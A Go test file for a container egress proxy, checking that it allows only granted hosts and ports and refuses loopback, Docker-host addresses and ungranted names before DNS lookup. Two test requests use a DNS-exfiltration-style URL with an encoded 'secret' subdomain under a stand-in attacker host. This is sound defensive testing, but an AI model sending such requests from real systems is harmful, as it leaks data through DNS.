package egress

import (
	"context"
	"crypto/tls"
	"errors"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"strings"
	"sync"
	"testing"

	"github.com/bulkhead-dev/bulkhead/backend/catalog"
)

// lookups records the names the proxy resolved, and resolves them from
// zone if set, else as the system does.
type lookups struct {
	mu    sync.Mutex
	names []string
	zone  zone
}

func (l *lookups) LookupNetIP(ctx context.Context, network, host string) ([]netip.Addr, error) {
	l.mu.Lock()
	l.names = append(l.names, host)
	l.mu.Unlock()
	if l.zone != nil {
		return l.zone.LookupNetIP(ctx, network, host)
	}
	return net.DefaultResolver.LookupNetIP(ctx, network, host)
}

func hostPort(t *testing.T, rawURL string) catalog.HostPort {
	u, _ := url.Parse(rawURL)
	hp, err := catalog.ParseHostPort(u.Host)
	if err != nil {
		t.Fatal(err)
	}
	return hp
}

func TestProxyPassesOnlyGrantedDestinations(t *testing.T) {
	granted := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "granted") }))
	defer granted.Close()
	secure := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "secure") }))
	defer secure.Close()
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "other") }))
	defer other.Close()

	g, s, o := hostPort(t, granted.URL), hostPort(t, secure.URL), hostPort(t, other.URL)
	byName := catalog.HostPort{Host: "localhost", Port: o.Port}
	var events []Event
	p := New([]catalog.HostPort{g, s, byName}, nil, func(e Event) { events = append(events, e) })
	names := &lookups{}
	p.resolver = names
	srv := httptest.NewServer(p)
	defer srv.Close()
	proxyURL, _ := url.Parse(srv.URL)
	pool := secure.Client().Transport.(*http.Transport).TLSClientConfig.RootCAs
	c := &http.Client{Transport: &http.Transport{Proxy: http.ProxyURL(proxyURL), TLSClientConfig: &tls.Config{RootCAs: pool}}}

	get := func(u string) (int, string) {
		resp, err := c.Get(u)
		if err != nil {
			return 0, err.Error()
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		return resp.StatusCode, string(b)
	}
	if code, body := get(granted.URL); code != 200 || body != "granted" {
		t.Errorf("granted http: %d %q", code, body)
	}
	if code, body := get(secure.URL); code != 200 || body != "secure" {
		t.Errorf("granted https through CONNECT: %d %q", code, body)
	}
	if code, body := get(other.URL); code != 403 || !strings.Contains(body, "is not granted to this server") {
		t.Errorf("ungranted port: %d %q", code, body)
	}
	// A granted name that resolves to loopback is refused: only an address
	// granted as such may be private.
	if code, body := get(strings.Replace(other.URL, "127.0.0.1", "localhost", 1)); code != 403 || !strings.Contains(body, "a loopback address") {
		t.Errorf("name resolving to loopback: %d %q", code, body)
	}
	// An ungranted name is refused before any lookup: no DNS exfiltration.
	if code, _ := get("https://c2VjcmV0.attacker.example:443/"); code != 0 {
		t.Errorf("ungranted name over CONNECT answered %d", code)
	}
	if code, _ := get("http://c2VjcmV0.attacker.example/"); code != 403 {
		t.Errorf("ungranted name over http: %d", code)
	}
	if len(names.names) != 1 || names.names[0] != "localhost" {
		t.Errorf("names looked up: %v, want only the granted localhost", names.names)
	}

	var allowed, refused int
	for _, e := range events {
		if e.Allowed {
			allowed++
			if e.Address == "" {
				t.Errorf("allowed event without the address dialed: %+v", e)
			}
		} else {
			refused++
			if e.Reason == "" {
				t.Errorf("refused event without a reason: %+v", e)
			}
		}
	}
	if allowed != 2 || refused != 4 {
		t.Errorf("events: %d allowed, %d refused, want 2 and 4: %+v", allowed, refused, events)
	}
}

// loopbackOnly keeps a test's proxy on this machine, whatever it decides.
func loopbackOnly(connect func(context.Context, string, string) (net.Conn, error)) func(context.Context, string, string) (net.Conn, error) {
	return func(ctx context.Context, network, address string) (net.Conn, error) {
		if ap, err := netip.ParseAddrPort(address); err != nil || !ap.Addr().IsLoopback() {
			return nil, errors.New("the test keeps the proxy from dialing " + address)
		}
		return connect(ctx, network, address)
	}
}

// zone resolves names as a zone file would, and nothing else.
type zone map[string][]netip.Addr

func (n zone) LookupNetIP(_ context.Context, _, host string) ([]netip.Addr, error) {
	if a, ok := n[host]; ok {
		return a, nil
	}
	return nil, &net.DNSError{Err: "no such host", Name: host, IsNotFound: true}
}

// TestProxyRefusesTheHostsOwnAddresses: a granted name that leads to an
// address of the Docker host (one handed to the proxy as such, a public one
// or a bridge gateway) is refused; the same address granted as such is
// reached, and so is a name leading to an address and port a person granted.
func TestProxyRefusesTheHostsOwnAddresses(t *testing.T) {
	dest := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "reached") }))
	defer dest.Close()
	d := hostPort(t, dest.URL)
	public, gateway := netip.MustParseAddr("198.41.0.4"), netip.MustParseAddr("172.17.0.1")
	loopback := netip.MustParseAddr("127.0.0.1")
	grants := []catalog.HostPort{
		{Host: "public.example", Port: 443}, {Host: "gateway.example", Port: 443},
		{Host: "dest.example", Port: d.Port}, d, // the name, and the address it leads to
	}
	var events []Event
	p := New(grants, []netip.Addr{public, gateway, loopback}, func(e Event) { events = append(events, e) })
	p.resolver = zone{"public.example": {public}, "gateway.example": {gateway}, "dest.example": {loopback}}
	p.connect = loopbackOnly(p.connect)
	srv := httptest.NewServer(p)
	defer srv.Close()
	proxyURL, _ := url.Parse(srv.URL)
	c := &http.Client{Transport: &http.Transport{Proxy: http.ProxyURL(proxyURL)}}
	get := func(u string) (int, string) {
		resp, err := c.Get(u)
		if err != nil {
			return 0, err.Error()
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		return resp.StatusCode, string(b)
	}
	for _, u := range []string{"http://public.example:443/", "http://gateway.example:443/"} {
		if code, body := get(u); code != 403 || !strings.Contains(body, "an address of the Docker host itself") {
			t.Errorf("%s: %d %q, want it refused as the host's address", u, code, body)
		}
	}
	if code, body := get(dest.URL); code != 200 || body != "reached" {
		t.Errorf("a host address granted as such: %d %q", code, body)
	}
	if code, body := get(strings.Replace(dest.URL, "127.0.0.1", "dest.example", 1)); code != 200 || body != "reached" {
		t.Errorf("a name leading to a granted address and port: %d %q", code, body)
	}
	var refused []string
	for _, e := range events {
		if !e.Allowed {
			refused = append(refused, e.Host)
		}
	}
	if strings.Join(refused, ",") != "public.example,gateway.example" {
		t.Errorf("refused events %v, want public.example and gateway.example", refused)
	}
}
